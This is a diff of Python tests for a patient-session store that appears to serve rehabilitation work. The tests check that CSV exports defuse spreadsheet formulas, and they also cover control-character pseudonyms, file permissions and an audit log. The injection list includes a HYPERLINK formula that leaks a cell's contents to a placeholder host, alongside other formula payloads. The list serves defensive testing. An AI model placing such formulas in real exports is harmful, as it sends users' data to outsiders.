@@ -78,3 +78,66 @@ def test_export_csv(tmp_path):
     rows = list(csv.DictReader(out.open()))
     assert rows[0]["pseudonym"] == "P-001" and rows[0]["repetitions"] == "2"
     assert not (tmp_path / "sessions.csv.part").exists()
+
+
+# Strings a spreadsheet would run as formulas (OWASP's CSV injection list) or that start one after a tab/CR.
+INJECTIONS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "=1+1", "+1+1", "-1+1", "@SUM(1)",
+              "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("text", INJECTIONS)
+def test_export_csv_neutralises_formulas(tmp_path, text):
+    with Store(tmp_path) as store:
+        store.add_session(SessionRecord(pseudonym="P-1", exercise="squat", started_at="2026-11-01T10:00:00+00:00",
+                                        notes=text, source=text))
+        out = store.export_csv(tmp_path / "sessions.csv")
+    [row] = list(csv.DictReader(out.open(newline="")))
+    assert row["notes"] == "'" + text and row["source"] == "'" + text
+    assert row["pseudonym"] == "P-1" and row["rom_best_deg"] == ""  # plain values stay as they were
+
+
+def test_formula_like_pseudonyms_are_neutralised_too(tmp_path):
+    with Store(tmp_path) as store:
+        store.add_patient("=1+1")
+        store.add_session(SessionRecord(pseudonym="=1+1", exercise=None, started_at="2026-11-01T10:00:00+00:00"))
+        out = store.export_csv(tmp_path / "sessions.csv")
+    [row] = list(csv.DictReader(out.open(newline="")))
+    assert row["pseudonym"] == "'=1+1"
+
+
+@pytest.mark.parametrize("bad", ["P\x00-1", "P-\x1b[31m", "P\n2", "P\u200b1", "P\u202e1", "P\x7f"])
+def test_pseudonyms_with_control_characters_are_refused(tmp_path, bad):
+    with Store(tmp_path) as store, pytest.raises(StoreError, match="control or invisible characters"):
+        store.add_patient(bad)
+
+
+def test_database_and_exports_are_owner_only_whatever_the_umask(tmp_path):
+    import os
+    import stat
+
+    old = os.umask(0o022)
+    try:
+        folder = tmp_path / "data"
+        with Store(folder) as store:
+            store.add_session(SessionRecord(pseudonym="P-1", exercise="squat", started_at="2026-11-01T10:00:00+00:00"))
+            out = store.export_csv(folder / "sessions.csv")
+        (tmp_path / "wide").mkdir(mode=0o755)
+        Store(tmp_path / "wide").close()
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
+    assert stat.S_IMODE((folder / "rehab.sqlite3").stat().st_mode) == 0o600
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    assert stat.S_IMODE((tmp_path / "wide").stat().st_mode) == 0o700  # an existing folder is narrowed
+
+
+def test_audit_trail(tmp_path):
+    with Store(tmp_path) as store:
+        store.audit("alice", "record", pseudonym="P-1", session_id=3, detail="live recording, 12 s")
+        store.audit("bob", "export", detail="CSV of all patients' sessions")
+        with pytest.raises(ValueError, match="unknown audit action 'delete'"):
+            store.audit("bob", "delete")
+        log = store.audit_log()
+    assert [(e["user"], e["action"], e["pseudonym"], e["session_id"]) for e in log] == [
+        ("bob", "export", None, None), ("alice", "record", "P-1", 3)]
+    assert all(e["at"].endswith("+00:00") for e in log)
